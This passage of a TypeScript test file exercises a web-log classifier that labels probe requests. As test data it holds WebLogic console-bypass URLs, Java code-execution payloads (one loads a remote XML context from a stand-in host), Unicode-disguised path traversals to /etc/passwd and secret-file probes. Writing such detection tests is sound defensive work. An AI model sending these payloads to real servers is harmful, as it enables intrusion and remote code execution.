import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BUILTIN_RULES } from '../../../lambdas/core/rules/builtin.js';
import {
  Classifier,
  MAX_COMBINING_RUN,
  MAX_DECOY_EXTENSIONS,
  MAX_NAME_PARTS,
  SCRIPT_EXTENSIONS,
  cutCombiningRuns,
  foldLookalikes,
  foldQueryLookalikes,
  resolvePath,
} from '../../../lambdas/core/rules/engine.js';
import type { Rule } from '../../../lambdas/core/rules/types.js';
import { record } from '../../support/records.js';

const classifier = new Classifier(BUILTIN_RULES);

function labels(request: string, status = 404, ip?: string): string[] {
  return classifier
    .classify(record({ request, status, ...(ip ? { ip } : {}) }))
    .labels.map((l) => `${l.category}/${l.rule.id}`)
    .sort();
}

const probeLabels = (request: string, status = 404) => labels(request, status).filter((l) => !l.startsWith('static-asset/'));

describe('a probe target followed by a decoy asset segment (PATH_INFO, handler locations)', () => {
  const cases: [string, string][] = [
    ['/server-status/x.css', 'sensitive-file/server-status'],
    ['/server-info/a/b.js', 'sensitive-file/server-status'],
    ['/nginx_status/x.png', 'sensitive-file/server-status'],
    ['/phpinfo.php/x.png', 'php-probe/php-info'],
    ['/phpinfo.php/x.css', 'php-probe/php-info'],
    ['/info.php/a/b/c.js', 'php-probe/php-info'],
    ['/wp-content/plugins/x/shell.php/x.css', 'webshell/webshell'],
    ['/wp-config.php/x.css', 'sensitive-file/secret-file'],
    ['/.git/config/x.js', 'sensitive-file/secret-directory'],
  ];
  for (const [target, want] of cases) {
    it(`${target} is labelled ${want}, not excused as an asset`, () => {
      const got = labels(`GET ${target} HTTP/1.1`);
      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
      assert.ok(!got.includes('static-asset/static-asset'), `${target}: ${got.join(', ')}`);
    });
  }

  it('a served page under a handler location is labelled too (mod_status answers any path below it)', () => {
    assert.ok(labels('GET /server-status/x.css HTTP/1.1', 200).includes('sensitive-file/server-status'));
  });

  it('mod_status scraped from the host itself stays unlabelled as the plain page is', () => {
    assert.deepEqual(
      classifier.classify(record({ ip: '127.0.0.1', request: 'GET /server-status/x.css?auto HTTP/1.1', status: 200 })).labels.map((l) => l.rule.id),
      [],
    );
  });

  it('real assets and PATH_INFO routes stay benign or unlabelled', () => {
    for (const t of [
      '/static/css/site.css',
      '/assets/app.js',
      '/favicon.ico',
      '/images//logo.png',
      '/status/badge.svg',
      '/server/status.css',
      '/css/server-status.css',
    ]) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
    }
    // Front controllers with PATH_INFO routes (CodeIgniter, Magento, Kirby) are ordinary pages.
    for (const t of ['/index.php/products/42', '/index.php/api/v1/items?page=2', '/app.php/login', '/cgi-bin/awstats.pl/x']) {
      assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`, 200), [], t);
    }
    // Image proxies put a host name in the path: a Polish or Dominican domain is no Perl or Struts script.
    for (const t of ['/proxy/www.example.pl/logo.png', '/img/shop.example.do/banner.jpg', '/r/forum.example.pl/thread/42']) {
      assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
    }
    // Theme assets of a WordPress site are labelled as before (a miss there is a CMS probe), no more.
    assert.deepEqual(labels('GET /wp-content/themes/x/style.css HTTP/1.1', 200), []);
  });

  it('names only the scripts a server runs with a path after them', () => {
    for (const ext of ['php', 'asp', 'aspx', 'jsp', 'cgi', 'pl']) assert.ok(SCRIPT_EXTENSIONS.has(ext), ext);
    for (const ext of ['css', 'js', 'html', 'png', 'json', 'txt']) assert.ok(!SCRIPT_EXTENSIONS.has(ext), ext);
  });
});

describe('Unicode look-alikes of `.` and `/`', () => {
  it('folds full-width and other look-alikes into the resolved path', () => {
    const cases: [string, string][] = [
      ['/．env', '/.env'],
      ['/\uff0egit\uff0fconfig', '/.git/config'],
      ['/\u2024env', '/.env'],
      ['/a\uff0f\uff0e\uff0e\uff0f.env', '/.env'],
      ['/\uff0e\uff45\uff4e\uff56', '/.env'],
      ['/x\u2215..\u2215.env', '/.env'],
      ['/x\uff3c..\uff3c.env', '/.env'],
    ];
    for (const [input, want] of cases) assert.equal(resolvePath(input), want, input);
  });

  const hidden: [string, string][] = [
    ['/．env', 'sensitive-file/secret-file'],
    ['/%EF%BC%8Eenv', 'sensitive-file/secret-file'],
    ['/%ef%bc%8eenv', 'sensitive-file/secret-file'],
    ['/%25EF%25BC%258Eenv', 'sensitive-file/secret-file'],
    ['/\u2024env', 'sensitive-file/secret-file'],
    ['/%E2%80%A4env', 'sensitive-file/secret-file'],
    ['/．git／config', 'sensitive-file/secret-directory'],
    ['/%EF%BC%8Egit%EF%BC%8Fconfig', 'sensitive-file/secret-directory'],
    ['/static/..／..／..／etc/passwd', 'path-traversal/traversal-target-file'],
    ['/static/%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc/passwd', 'path-traversal/traversal-target-file'],
    ['/download.php?file=．．／．．／．．／etc/passwd', 'path-traversal/traversal-target-file'],
    ['/download.php?file=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc/passwd', 'path-traversal/traversal-target-file'],
  ];
  for (const [target, want] of hidden) {
    it(`${target} is labelled ${want}`, () => {
      const got = labels(`GET ${target} HTTP/1.1`);
      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
    });
  }

  it('real non-ASCII paths stay unlabelled', () => {
    for (const t of [
      '/search?q=café',
      '/search?q=%E6%97%A5%E6%9C%AC&page=2',
      '/wiki/Straße',
      '/café/menu',
      '/blog/wait…',
      '/%E6%97%A5%E6%9C%AC/%E6%9D%B1%E4%BA%AC',
      '/products/caf%C3%A9-noir',
      '/ﬁles/report',
    ]) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
    }
    for (const t of ['/images/café.png', '/fonts/日本.woff2', '/img/ｌｏｇｏ.png']) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
    }
  });

  it('leaves ASCII as it is, is idempotent, and never yields a look-alike', () => {
    const unit = fc.constantFrom(...'ab./\\', '\uff0e', '\uff0f', '\uff3c', '\u2024', '\u2025', '\u2215', '\ufe52', 'é', '日', 'ﬁ', 'Ａ', 'ℌ');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 12 }), (s) => {
        const f = foldLookalikes(s);
        assert.equal(foldLookalikes(f), f);
        for (const bad of ['\uff0e', '\uff0f', '\uff3c', '\u2024', '\u2215', '\ufe52']) assert.ok(!f.includes(bad), f);
        const r = resolvePath(`/${s}`);
        assert.equal(resolvePath(r), r);
      }),
      { numRuns: 2000 },
    );
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'abz09./-_;%'), maxLength: 20 }), (s) => assert.equal(foldLookalikes(s), s)));
  });

  it('never turns a missing asset into a probe', () => {
    // Letters that spell no probe word (`cgi`, `db`, `admin`…), and non-ASCII letters and look-alikes of letters.
    const word = fc.string({ unit: fc.constantFrom(...'aefhjqvxyz-_', 'é', 'ü', '日', 'ｌ', 'ｏ', 'ﬁ', '…'), minLength: 1, maxLength: 8 });
    const ext = fc.constantFrom('css', 'js', 'png', 'woff2', 'svg', 'ico');
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), word, ext, (dirs, name, e) => {
        const path = `/${dirs.join('/')}/${name}.${e}`;
        const encoded = path
          .split('/')
          .map((s) => encodeURIComponent(s))
          .join('/');
        for (const t of [path, encoded]) assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
      }),
      { numRuns: 500 },
    );
  });
});

describe('runs of combining marks (normalisation sorts each run: its cost is the square of the run)', () => {
  /** A mark, but not U+034F (a starter). */
  const isMark = (c: string) => c !== '\u034f' && /\p{M}/u.test(c);
  /** The longest run of marks in `s` (U+034F, a starter, ends a run). */
  function longestRun(s: string): number {
    let longest = 0;
    let run = 0;
    for (const c of s) {
      run = isMark(c) ? run + 1 : 0;
      longest = Math.max(longest, run);
    }
    return longest;
  }

  it(`normalises at most ${MAX_COMBINING_RUN} marks in a row, counts the field, and stays idempotent`, () => {
    const limits = { decodePassesExhausted: 0, decoyExtensionsCut: 0, combiningRunsCut: 0 };
    // Classes 230 and 220 alternating: every mark of the run is moved past the ones before it.
    const long = `/a${'\u0301\u0316'.repeat(100)}/\uff0eenv`;
    const f = foldLookalikes(long, limits);
    assert.equal(longestRun(f), MAX_COMBINING_RUN);
    assert.equal(limits.combiningRunsCut, 1);
    assert.equal(foldLookalikes(f), f);
    assert.ok(f.endsWith('/.env'), 'the look-alikes after the run are still folded');
    assert.equal(resolvePath(long).endsWith('/.env'), true);
    // A run of the bound itself is normalised whole, as before, and not counted.
    const atBound = `/a${'\u0316\u0301'.repeat(MAX_COMBINING_RUN / 2)}`;
    assert.equal(foldLookalikes(atBound, limits), atBound.normalize('NFKC'));
    assert.equal(limits.combiningRunsCut, 1);
  });

  it('cuts a run that decomposition or lower-casing lengthens, so the fold of a fold is itself', () => {
    // U+0344 decomposes into two marks; U+0130 lower-cases to `i` and U+0307.
    for (const s of [`x${'\u0344'.repeat(MAX_COMBINING_RUN)}`, `x\u0130${'\u0301'.repeat(MAX_COMBINING_RUN - 1)}`, '\uff9e\u0301'.repeat(40)]) {
      const f = foldLookalikes(s);
      assert.ok(longestRun(f) <= MAX_COMBINING_RUN, JSON.stringify(f));
      assert.equal(foldLookalikes(f), f);
    }
  });

  it('cuts runs of every character that normalisation reorders as a mark', () => {
    // A character is reordered as a mark when it moves before U+0345 (class 240, the highest
    // there is), or when its compatibility decomposition starts with a mark (U+FF9E becomes
    // U+3099, class 8).
    for (let cp = 0x80; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const c = String.fromCodePoint(cp);
      const first = String.fromCodePoint(c.normalize('NFKD').codePointAt(0) as number);
      const reorders = `a\u0345${c}`.normalize('NFD') !== `a\u0345${c.normalize('NFD')}`;
      if (!reorders && !isMark(first)) continue;
      const run = c.repeat(MAX_COMBINING_RUN + 1);
      assert.notEqual(cutCombiningRuns(run), run, `U+${cp.toString(16)}`);
    }
  });
});

describe('decoy extensions after a secret name', () => {
  it('finds a secret name behind any number of decoy extensions', () => {
    for (const t of [
      '/.env.bak.old.txt.css',
      '/.env.a.b.c.d',
      '/.env.1.2.3.4.5.6.7.8.9.js',
      '/.my.cnf.a.b.c.d.e',
      '/wp-config.php.1.2.3.4.css',
      '/.git-credentials.a.b.c.d.e.f.g.h',
    ]) {
      for (const status of [200, 404]) assert.ok(labels(`GET ${t} HTTP/1.1`, status).includes('sensitive-file/secret-file'), `${t} ${status}`);
    }
    for (const t of ['/site.tar.gz.a.b.c.d', '/db.sql.1.2.3.4.5.6']) {
      assert.ok(labels(`GET ${t} HTTP/1.1`).includes('sensitive-file/backup-file'), t);
    }
  });

  it('every built-in file name fits the parts tested from the start of a name', () => {
    for (const rule of BUILTIN_RULES) {
      const f = rule.match.file;
      // A suffix (`.tar.gz`) needs a stem before it (`site.tar.gz`).
      const names = [...(f?.equals ?? []), ...(f?.suffix ?? []).map((x) => `stem${x}`)];
      for (const name of names) {
        const parts = name.replace(/^\./, '').split('.').length;
        assert.ok(parts <= MAX_NAME_PARTS, `${rule.id}: ${name} has ${parts} parts`);
      }
    }
  });

  it(`tests at most ${MAX_NAME_PARTS} leading and ${MAX_DECOY_EXTENSIONS} trailing cuts, and counts names with more parts`, () => {
    const rule: Rule = {
      id: 'four-part-name',
      category: 'test',
      class: 'probing',
      severity: 'low',
      score: 1,
      explain: 'a name longer than the leading cuts',
      match: { file: { equals: ['a.b.c.d'] } },
    };
    const c = new Classifier([rule]);
    const hit = (name: string) => c.classify(record({ request: `GET /${name} HTTP/1.1`, status: 404 })).labels.length > 0;
    const total = MAX_NAME_PARTS + MAX_DECOY_EXTENSIONS + 1;
    // A name of `total` parts or fewer has every prefix tested.
    assert.ok(hit(`a.b.c.d.${'x.'.repeat(total - 5)}x`));
    assert.equal(c.limits.decoyExtensionsCut, 0);
    // One part more leaves a prefix in the middle untested, and that is counted.
    assert.ok(!hit(`a.b.c.d.${'x.'.repeat(total - 4)}x`));
    assert.equal(c.limits.decoyExtensionsCut, 1);
  });

  it('ordinary dotted asset names stay benign', () => {
    for (const t of ['/js/jquery.ui.1.12.1.min.js', '/css/bootstrap.4.6.2.min.css', '/img/a.b.c.d.e.f.png', '/dist/app.3f9a1c.chunk.min.js.map']) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
    }
  });
});

describe('Java code-execution payloads are rce-probe whatever the path rewrite', () => {
  const payloads = [
    '?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)',
    '?_nfpb=true&handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(%22http://198.51.100.1/x.xml%22)',
    '?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22weblogic.work.ExecuteThread%20t%22)',
    '?handle=com.bea.core.repackaged.springframework.context.support.ClassPathXmlApplicationContext(%22http://x/p.xml%22)',
    '?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)',
  ];
  const paths = [
    '/console/css/%252e%252e%252fconsole.portal',
    '/console/images/%252E%252E%252Fconsole.portal',
    '/CONSOLE/IMAGES/%252E%252E%252FCONSOLE.PORTAL',
    '/console/css;x/%252e%252e%252fconsole.portal',
    '/console/css/%252e%252e%252fconsole.portal;jsessionid=1',
    '/console/..;/console.portal',
    '/console/css/..%252fconsole.portal',
  ];
  for (const path of paths) {
    it(`${path} with a payload is rce-probe and product-exploit`, () => {
      for (const q of payloads) {
        const got = labels(`GET ${path}${q} HTTP/1.1`);
        // One label per category: the exact-URL rule may be the one shown.
        assert.ok(
          got.some((l) => l.startsWith('rce-probe/')),
          `${path}${q}: ${got.join(', ')}`,
        );
        assert.ok(classifier.requestRuleIds(record({ request: `GET ${path}${q} HTTP/1.1`, status: 404 })).includes('java-rce-payload'), `${path}${q}`);
      }
      const tangosol = labels(`GET ${path}${payloads[0]} HTTP/1.1`);
      assert.ok(tangosol.includes('product-exploit/exploited-weblogic'), `${path}: ${tangosol.join(', ')}`);
    });
  }

  it('the payload in a POST query is labelled too', () => {
    assert.ok(labels(`POST /console/images/%252e%252e%252fconsole.portal${payloads[1]} HTTP/1.1`).includes('rce-probe/java-rce-payload'));
  });

  it('the call reached through reflection, as expression-language payloads do, is a payload on any path', () => {
    for (const q of [
      "?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
      '?x=%24%7B%22%22.class.forName(%22java.lang.Runtime%22).getMethod(%22getRuntime%22%2Cnull).invoke(null%2Cnull).exec(%22id%22)%7D',
    ]) {
      assert.ok(labels(`GET /api/report${q} HTTP/1.1`).includes('rce-probe/java-rce-payload'), q);
    }
    assert.deepEqual(
      labels('GET /search?q=getMethod+getRuntime+reflection HTTP/1.1', 200).filter((l) => l.startsWith('rce-probe/')),
      [],
    );
  });

  it('a search for the class names is no payload', () => {
    for (const t of [
      '/search?q=java.lang.Runtime',
      '/search?q=java.lang.Runtime+exec+example',
      '/docs/api/java/lang/Runtime.html',
      '/docs/java.lang.Runtime.getRuntime',
      '/search?q=spring+xml+application+context',
      '/console/console.portal',
    ]) {
      assert.deepEqual(
        labels(`GET ${t} HTTP/1.1`, 200).filter((l) => l.startsWith('rce-probe/')),
        [],
        t,
      );
    }
  });
});

describe('ideographic full stops read as `.`', () => {
  it('folds U+3002, and U+FF61 and U+FE12 (which NFKC turns into U+3002), to `.`', () => {
    assert.equal(foldLookalikes('\u3002\uff61\ufe12'), '...');
    assert.equal(foldLookalikes('/\u3002ENV'), '/.env');
    assert.equal(resolvePath('/\u3002env'), '/.env');
    assert.equal(resolvePath('/\uff61git/config'), '/.git/config');
    assert.equal(resolvePath('/static/\u3002\u3002/\u3002\u3002/.env'), '/.env');
  });

  const hidden: [string, string][] = [
    ['/\u3002env', 'sensitive-file/secret-file'],
    ['/%E3%80%82env', 'sensitive-file/secret-file'],
    ['/%e3%80%82env', 'sensitive-file/secret-file'],
    ['/%25E3%2580%2582env', 'sensitive-file/secret-file'],
    ['/\uff61env', 'sensitive-file/secret-file'],
    ['/%EF%BD%A1env', 'sensitive-file/secret-file'],
    ['/\ufe12htpasswd', 'sensitive-file/secret-file'],
    ['/%E3%80%82git/config', 'sensitive-file/secret-directory'],
    ['/\u3002git\uff0fconfig', 'sensitive-file/secret-directory'],
    ['/download.php?file=\u3002\u3002/\u3002\u3002/app/config.yml', 'path-traversal/traversal-sequence'],
    ['/download.php?file=%E3%80%82%E3%80%82/%E3%80%82%E3%80%82/app/config.yml', 'path-traversal/traversal-sequence'],
    ['/download.php?file=%EF%BD%A1%EF%BD%A1/app/config.yml', 'path-traversal/traversal-sequence'],
  ];
  for (const [target, want] of hidden) {
    it(`${target} is labelled ${want}`, () => {
      const got = labels(`GET ${target} HTTP/1.1`);
      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
    });
  }

  it('?file=。。/etc/passwd is a traversal sequence as well as a system file', () => {
    for (const q of ['?file=\u3002\u3002/etc/passwd', '?file=%E3%80%82%E3%80%82/etc/passwd']) {
      const ids = classifier.requestRuleIds(record({ request: `GET /${q} HTTP/1.1`, status: 404 }));
      assert.ok(ids.includes('traversal-sequence') && ids.includes('traversal-target-file'), `${q}: ${ids.join(', ')}`);
    }
  });

  it('Japanese and Chinese text with full stops stays unlabelled', () => {
    for (const t of [
      '/wiki/\u3053\u3093\u306b\u3061\u306f\u3002',
      '/blog/\u3042\u308a\u304c\u3068\u3046\u3002/comments',
      '/%E6%97%A5%E6%9C%AC%E3%80%82',
      '/search?q=\u4eca\u65e5\u306f\u3002\u660e\u65e5\u306f\u6674\u308c\u3002',
      '/search?q=%E4%BD%A0%E5%A5%BD%E3%80%82%E8%B0%A2%E8%B0%A2%E3%80%82&page=2',
      '/news/\u4e2d\u6587\uff61\u65b0\u95fb',
    ]) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
      assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
    }
  });

  it('a sentence ending in full stops before a slash in a query value is no traversal', () => {
    for (const t of [
      '/search?q=%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF%E3%80%82%E3%80%82/',
      '/?q=%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF%E3%80%82%E3%80%82/',
      '/post?comment=\u3042\u308a\u304c\u3068\u3046\u3002\u3002/\u6b21',
      '/post?comment=\u3042\u308a\u304c\u3068\u3046\uff61\uff61/\u6b21&page=2',
      '/search?q=%E4%BD%A0%E5%A5%BD%E3%80%82%E3%80%82%5C',
    ]) {
      for (const status of [200, 404]) assert.deepEqual(labels(`GET ${t} HTTP/1.1`, status), [], `${t} ${status}`);
    }
  });

  it('in a query, folds only the full stops that start a segment, and stays idempotent', () => {
    assert.equal(foldQueryLookalikes('file=\u3002\u3002/\u3002\u3002/etc'), 'file=../../etc');
    assert.equal(foldQueryLookalikes('q=\u3053\u3093\u3002\u3002/'), 'q=\u3053\u3093\u3002\u3002/');
    assert.equal(foldQueryLookalikes('file=c:\u3002\u3002\\windows'), 'file=c:..\\windows');
    const unit = fc.constantFrom(...'ae./\\=&:;', '\u3002', '\uff61', '\ufe12', '\uff0e', '\u65e5', '\u3042');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 12 }), (s) => {
        const f = foldQueryLookalikes(s);
        assert.equal(foldQueryLookalikes(f), f);
        // It differs from the path's fold only in the full stops it leaves, each after text.
        assert.equal(f.replace(/\u3002/g, '.'), foldLookalikes(s), s);
        for (let i = 0; i < f.length; i++) {
          if (f[i] !== '\u3002') continue;
          let j = i;
          while (j > 0 && f[j - 1] === '\u3002') j--;
          assert.ok(j > 0 && !'/\\=&.:;'.includes(f[j - 1] as string), `${s} -> ${f}`);
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('full stops that start a segment are still a traversal, in the query and in the path', () => {
    for (const t of [
      '/?file=\u3002\u3002/\u3002\u3002/windows/win.ini',
      '/?file=%E3%80%82%E3%80%82/%E3%80%82%E3%80%82/windows/win.ini',
      '/download.php?name=x&file=\u3002\u3002/app/config.yml',
      '/?q=\u3053\u3093\u306b\u3061\u306f\u3002\u3002/\u3002\u3002/etc/passwd',
      '/?file=\u3002\u3002\\\u3002\u3002\\windows\\win.ini',
    ]) {
      const ids = classifier.requestRuleIds(record({ request: `GET ${t} HTTP/1.1`, status: 404 }));
      assert.ok(ids.includes('traversal-sequence'), `${t}: ${ids.join(', ')}`);
    }
    assert.ok(labels('GET /\u3002\u3002/\u3002\u3002/etc/passwd HTTP/1.1').includes('path-traversal/traversal-target-file'));
  });

  it('never leaves an ideographic full stop, and stays idempotent', () => {
    const unit = fc.constantFrom(...'ae./', '\u3002', '\uff61', '\ufe12', '\uff0e', '\u65e5', '\u3042');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 12 }), (s) => {
        const f = foldLookalikes(s);
        assert.equal(foldLookalikes(f), f);
        for (const bad of ['\u3002', '\uff61', '\ufe12']) assert.ok(!f.includes(bad), f);
        // Each full stop becomes exactly one `.`: nothing else is added or lost.
        assert.equal([...f].filter((c) => c === '.').length, [...s].filter((c) => '.\u3002\uff61\ufe12\uff0e'.includes(c)).length, s);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('the WebLogic console bypass without a payload (CVE-2020-14882, CVE-2020-14750)', () => {
  const isExploit = (target: string, status = 404) => labels(`GET ${target} HTTP/1.1`, status).some((l) => l.startsWith('product-exploit/'));
  const agree = (target: string) => {
    const r = record({ request: `GET ${target} HTTP/1.1`, status: 404 });
    assert.deepEqual(classifier.requestRuleIds(r), classifier.requestRuleIdsExhaustive(r), target);
  };

  const bypasses = [
    '/console/css/%252e%252e%252f;x/console.portal',
    '/console/css/%252e%252e%252fconsole.portal',
    '/console/images/%252e%252e%252fconsole.portal',
    '/console/images/%252E%252E%252Fconsole.portal',
    '/console/images/%252E%252e%252F;x/console.portal',
    '/console/css/%252e%252e%252f;jsessionid=0a1b2c/console.portal',
    '/console/css/%2e%2e%2fconsole.portal',
    '/console/images/%2E%2E%2F;x/console.portal',
    '/console/css/%252e%252e;x%252fconsole.portal',
    '/console/css;x/%252e%252e%252f;x/console.portal',
    '/console/images//%252e%252e%252f/console.portal',
    '/console/css/%252e%252e%252f;/;x/console.portal',
    '/console/css/%252e%252e%252f%252e%252e%252fconsole/console.portal',
    '/console/css/%252e%252e%252f;x/consolejndi.portal',
    '/console/css/%25%32%65%25%32%65%25%32%66;x/console.portal',
  ];
  for (const target of bypasses) {
    it(`${target} is product-exploit, served or not`, () => {
      assert.ok(isExploit(target), `${target}: ${labels(`GET ${target} HTTP/1.1`).join(', ')}`);
      assert.ok(isExploit(target, 200), target);
      agree(target);
    });
  }

  it('the console pages and stylesheets an administrator fetches are no exploit', () => {
    for (const t of [
      '/console/login/LoginForm.jsp',
      '/console/css/login.css',
      '/console/images/logo.gif',
      '/console/console.portal',
      '/console/console.portal?_nfpb=true&_pageLabel=HomePage1',
      '/console/css/./login.css',
      '/console/framework/skins/wlsconsole/css/general.css',
      '/console/images/;jsessionid=1/spacer.gif',
    ]) {
      for (const status of [200, 404]) assert.ok(!isExploit(t, status), `${t} ${status}`);
      agree(t);
    }
    // A `..` out of a site's own css folder is a traversal, not the WebLogic bypass.
    assert.ok(!isExploit('/static/css/../fonts/x.woff'));
  });

  it('every encoding, case and parameter mix of the traversal is found, and the needles never miss it', () => {
    const dot = fc.constantFrom('.', '%2e', '%2E', '%252e', '%252E', '%25%32%65');
    const slash = fc.constantFrom('/', '%2f', '%2F', '%252f', '%252F');
    const param = fc.constantFrom('', ';', ';x', ';jsessionid=1', '/;x', '/');
    fc.assert(
      fc.property(
        fc.constantFrom('css', 'images', 'CSS', 'Images'),
        param,
        dot,
        dot,
        param,
        slash,
        param,
        fc.constantFrom('console.portal', 'consolejndi.portal', 'CONSOLE.PORTAL'),
        (dir, p1, d1, d2, p2, s, p3, page) => {
          const target = `/console/${dir}${p1}/${d1}${d2}${p2}${s}${p3 === '/' || p3.startsWith('/') ? `${p3.slice(1)}/` : p3 === '' ? '' : `${p3}/`}${page}`;
          assert.ok(isExploit(target), target);
          agree(target);
        },
      ),
      { numRuns: 500 },
    );
  });

  // The classifier reads `\` as a separator (segments, `resolvePath`), decoded from `%5c` and
  // `%255c` too; the rule reads it so. A combined log writes a `\` of the request as `\\`.
  const backslashed = [
    '/console/css/%252e%252e%5c;x/console.portal',
    '/console/css/..\\console.portal',
    '/console/css/..\\\\console.portal',
    '/console/css/%2e%2e%5cconsole.portal',
    '/console/images/%252e%252e%255cconsole.portal',
    '/console/images/%252E%252E%255C;x/console.portal',
    '/console/css/..\\..\\console\\console.portal',
    '/console\\css\\..\\console.portal',
    '/console/css\\%252e%252e%252fconsole.portal',
    '/console/css;x\\..;x\\console.portal',
  ];
  for (const target of backslashed) {
    it(`${target} (a backslash for a slash) is product-exploit, served or not`, () => {
      assert.ok(isExploit(target), `${target}: ${labels(`GET ${target} HTTP/1.1`).join(', ')}`);
      assert.ok(isExploit(target, 200), target);
      agree(target);
    });
  }

  it('every mix of slashes and backslashes, encoded or not, around the traversal is found', () => {
    const sep = fc.constantFrom('/', '\\', '\\\\', '%5c', '%5C', '%255c', '%2f', '%252f');
    const dot = fc.constantFrom('.', '%2e', '%252e');
    const param = fc.constantFrom('', ';', ';x');
    fc.assert(
      fc.property(
        fc.constantFrom('/', '\\'),
        fc.constantFrom('css', 'images'),
        fc.constantFrom('/', '\\'),
        param,
        dot,
        sep,
        param,
        fc.constantFrom('', '/', '\\'),
        (before, dir, after, p1, d, s, p2, empty) => {
          const target = `/console${before}${dir}${after}${empty}${d}${d}${p1}${s}${p2 === '' ? '' : `${p2}/`}console.portal`;
          assert.ok(isExploit(target), target);
          agree(target);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a backslash in the console pages an administrator fetches is no exploit', () => {
    for (const t of ['/console\\login\\LoginForm.jsp', '/console/css\\login.css', '/console\\images\\logo.gif', '/console/css/.\\login.css']) {
      for (const status of [200, 404]) assert.ok(!isExploit(t, status), `${t} ${status}`);
      agree(t);
    }
    assert.ok(!isExploit('/static/css/..\\fonts/x.woff'));
  });
});

describe('a secret name followed by a decoy asset path', () => {
  const secretFile = BUILTIN_RULES.find((r) => r.id === 'secret-file')?.match.file?.equals ?? [];
  const configRoot = BUILTIN_RULES.find((r) => r.id === 'secret-config-root')?.match.path?.equals ?? [];
  const assetTail = fc.tuple(
    fc.array(fc.constantFrom('a', 'x', 'static', 'v1'), { maxLength: 2 }),
    fc.constantFrom('x.css', 'app.js', 'a.png', 'f.woff2', 'y.css.map'),
  );
  const tailOf = ([dirs, name]: [string[], string]) => [...dirs, name].join('/');

  const cases: [string, string][] = [
    ['/.env/x.css', 'sensitive-file/secret-file'],
    ['/.env/a/b/c.js', 'sensitive-file/secret-file'],
    ['/.env.production/x.png', 'sensitive-file/secret-file'],
    ['/%2eenv/x.css', 'sensitive-file/secret-file'],
    ['/.env;x/x.css', 'sensitive-file/secret-file'],
    ['/\u3002env/x.css', 'sensitive-file/secret-file'],
    ['/app/.env/x.css?v=1', 'sensitive-file/secret-file'],
    ['/.htpasswd/x.js', 'sensitive-file/secret-file'],
    ['/web.config/x.png', 'sensitive-file/secret-file'],
    ['/config.php.bak/x.css', 'sensitive-file/secret-file'],
    ['/.git/config/x.png', 'sensitive-file/secret-directory'],
    ['/.aws/credentials/x.css', 'sensitive-file/secret-directory'],
    ['/docker-compose.yml/x.css', 'sensitive-file/secret-config-root'],
    ['/backup.sql/x.png', 'sensitive-file/backup-file'],
    ['/www/site.tar.gz/x.js', 'sensitive-file/backup-file'],
  ];
  for (const [target, want] of cases) {
    it(`${target} is labelled ${want}, not excused as an asset`, () => {
      const got = labels(`GET ${target} HTTP/1.1`);
      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
      assert.ok(!got.includes('static-asset/static-asset'), `${target}: ${got.join(', ')}`);
    });
  }

  it('every secret file name with a dot gets its label under any decoy asset path, as the plain name does', () => {
    const dotted = secretFile.filter((n) => n.includes('.'));
    assert.ok(dotted.length >= 20);
    fc.assert(
      fc.property(fc.constantFrom(...dotted), assetTail, (name, tail) => {
        const target = `/${name}/${tailOf(tail)}`;
        for (const status of [200, 404]) {
          assert.ok(labels(`GET /${name} HTTP/1.1`, status).includes('sensitive-file/secret-file'), name);
          assert.ok(labels(`GET ${target} HTTP/1.1`, status).includes('sensitive-file/secret-file'), `${target} ${status}`);
        }
      }),
      { numRuns: 300 },
    );
    for (const path of configRoot) {
      assert.ok(labels(`GET ${path}/x.css HTTP/1.1`).includes('sensitive-file/secret-config-root'), path);
    }
  });

  const dotless: [string, string][] = [
    ['/id_rsa/x.png', 'sensitive-file/secret-file'],
    ['/.ssh/id_rsa/a.css', 'sensitive-file/secret-file'],
    ['/id_ed25519/x.js', 'sensitive-file/secret-file'],
    ['/home/deploy/id_ecdsa/a/b.woff2', 'sensitive-file/secret-file'],
    ['/ID_DSA/x.css', 'sensitive-file/secret-file'],
    ['/%69d_rsa/x.png', 'sensitive-file/secret-file'],
    ['/id_rsa;x/x.css', 'sensitive-file/secret-file'],
  ];
  for (const [target, want] of dotless) {
    it(`${target} (a secret name without a dot) is labelled ${want}, as the plain name is`, () => {
      for (const status of [200, 404]) {
